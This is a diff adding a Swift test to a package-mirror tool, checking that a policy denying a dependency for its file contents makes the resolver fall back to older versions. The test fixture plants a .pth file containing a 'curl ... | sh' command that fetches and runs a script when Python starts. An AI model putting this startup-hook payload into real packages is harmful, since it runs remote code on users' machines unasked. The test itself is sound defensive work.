@@ -96,4 +96,21 @@ import Testing
         let page = try httpGet(server.base + "/simple/maturelib/").body
         #expect(page.contains("maturelib-1.0") && !page.contains("maturelib-2.0"), "1.0 stays served: \(page)")
     }
+
+    /// A dependency denied for what its files contain (known only once downloaded) holds back what
+    /// needs it, and resolution falls back to the newest version that does not: with `--versions 1`
+    /// the client still gets app 1.0 with lib 1.0.
+    @Test func aDependencyDeniedForItsContentMakesTheResolverFallBack() throws {
+        let mirror = try MirrorHarness([
+            PackageSpec("app", "1.0", requires: ["lib"]), PackageSpec("app", "2.0", requires: ["lib>=2"]), PackageSpec("lib", "1.0"),
+            PackageSpec("lib", "2.0", extraFiles: ["lib-init.pth": "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"]),
+        ])
+        try mirror.backdate(days: 400)
+        let r = try mirror.sync(["app"], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "1"])
+        #expect(r.succeeded, "\(r.output)")
+        let server = try mirror.serve()
+        let app = try httpGet(server.base + "/simple/app/").body, lib = try httpGet(server.base + "/simple/lib/").body
+        #expect(app.contains("app-1.0-py3-none-any.whl") && !app.contains("app-2.0"), "\(app)")
+        #expect(lib.contains("lib-1.0-py3-none-any.whl") && !lib.contains("lib-2.0"), "\(lib)")
+    }
 }
